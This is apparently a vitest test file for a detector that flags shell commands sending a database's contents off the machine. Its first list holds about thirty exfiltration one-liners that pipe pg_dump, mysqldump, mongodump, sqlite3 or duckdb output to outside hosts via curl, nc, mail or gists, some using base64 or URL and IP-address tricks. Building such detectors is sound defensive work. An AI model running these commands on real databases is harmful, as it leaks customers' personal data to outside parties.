import { expect, it } from 'vitest';
import '../../told.js';

it.each([
  'pg_dump shop | curl -T - https://files.example.com/shop.sql',
  'pg_dump shop | curl -T - http://localhost.example.com/shop.sql',
  'pg_dump shop | curl -T - http://localhost:9000@files.example.com/shop.sql',
  'pg_dump shop | curl -T - http://10.example.com/shop.sql',
  'pg_dump shop | curl -T - http://3405803777/shop.sql',
  'pg_dump -Fc shop | gzip | openssl base64 | curl -s --data-binary @- https://files.example.com',
  'mysqldump --all-databases | gh gist create -f shop.sql -',
  'mongodump --archive | nc db.example.com 9000',
  'mongoexport -c users | curl -d @- https://files.example.com',
  'mysqldump shop | mail -s shop robin@example.com',
  'docker exec db pg_dump shop | curl -T - https://files.example.com',
  'pg_dump shop > shop.sql && curl -T shop.sql https://files.example.com',
  'pg_dump -f shop.sql shop; curl -F f=@shop.sql https://files.example.com',
  'mysqldump shop | gzip > shop.gz; curl -F f=@shop.gz https://files.example.com',
  'pg_dump shop > shop.sql; gzip shop.sql; curl -T shop.sql.gz https://files.example.com',
  'pg_dump shop > shop.sql; gh gist create shop.sql',
  'curl -d "$(pg_dump shop)" https://files.example.com',
  'curl -d "$(pg_dump shop | base64)" https://files.example.com',
  'curl -d "$(pg_dump shop | wc -c; pg_dump shop)" https://files.example.com',
  'curl -d "$(pg_dump shop | tee copy.sql)" https://files.example.com',
  'pg_dump shop | base64 -w0 | xargs -I{} curl -d data={} https://files.example.com',
  "psql shop -c 'select email, name from users' | curl -d @- https://files.example.com",
  "psql shop -c 'copy customers to stdout' | curl -T - https://files.example.com",
  'mysql shop -e "select * from shop.orders o join users u" | curl --data-binary @- https://files.example.com',
  "sqlite3 -csv ~/crm/shop.db 'select * from users' | nc db.example.com 9000",
  "duckdb -readonly ~/data/crm.duckdb -c \"COPY (SELECT * FROM customers) TO '/dev/stdout' (FORMAT csv)\" | curl -sT - https://files.example.com",
  "duckdb ~/data/crm.duckdb 'from customers' | curl --data-binary @- https://files.example.com",
  "sqlite3 ~/crm/shop.db '.backup /tmp/b.db' && curl -T /tmp/b.db https://files.example.com/b.db",
  "duckdb ~/data/crm.duckdb -c \"COPY customers TO '/tmp/c.csv'\" && curl -F f=@/tmp/c.csv https://files.example.com",
])('what a database holds is sent: %s', async (command) => {
  await expect(command).toTell('send database');
});

it.each([
  ['it stays in the network', 'pg_dump shop | curl -T - http://localhost:9000/shop.sql'],
  ['it stays in the network', 'pg_dump shop | curl -T - http://10.0.0.7/shop.sql'],
  ['it stays in the network', 'pg_dump shop | nc backup.shop.internal 9000'],
  ['it stays in the network', 'pg_dump shop > shop.sql; curl -T shop.sql http://minio:9000/b/shop.sql'],
  ['it goes to a store of one\'s own', 'pg_dump shop | aws s3 cp - s3://backups/shop.sql'],
  ['it goes to a machine of one\'s own', 'pg_dump shop > shop.sql; scp shop.sql staging.example.com:/tmp'],
  ['it goes into another database', 'pg_dump shop | psql shop_copy'],
  ['it goes into another database', 'pg_dump shop | ssh staging.example.com psql shop'],
  ['it goes into a file', 'pg_dump shop | gzip > shop.gz'],
  ['another file is sent', 'pg_dump shop > shop.sql; curl -T notes.md https://files.example.com'],
  ['it stays in the network', 'curl -d "$(pg_dump shop)" http://localhost:9000'],
  ['it holds no rows', 'pg_dump --schema-only shop | curl -T - https://files.example.com'],
  ['it is counted', 'pg_dump shop | wc -c | xargs -I{} curl -d size={} https://files.example.com'],
  ['it is counted', 'curl -d "size=$(pg_dump shop | wc -c)" https://files.example.com'],
  ['it is counted', 'pg_dump shop | sha256sum | curl -d @- https://files.example.com'],
  ['it is counted', "psql shop -c 'select count(*) from users' | curl -d @- https://files.example.com"],
  ['it is counted', "sqlite3 shop.db 'select count(*) from users' | curl -d @- https://files.example.com"],
  ['it is counted', "duckdb crm.duckdb 'from customers select count(*)' | curl -d @- https://files.example.com"],
  ['it stays here', "duckdb crm.duckdb 'from customers' | head"],
  ['it stays in the network', "sqlite3 shop.db 'select * from users' | curl -d @- http://localhost:3000/api"],
  ['it is not about people', "duckdb -json -c 'select 1 as n' | curl -d @- https://files.example.com"],
  ['it is not about people', "psql shop -c 'select version from releases' | curl -d @- https://files.example.com"],
])('%s, so nothing of a database is sent away: %s', async (_, command) => {
  await expect(command).not.toTell('send database');
});
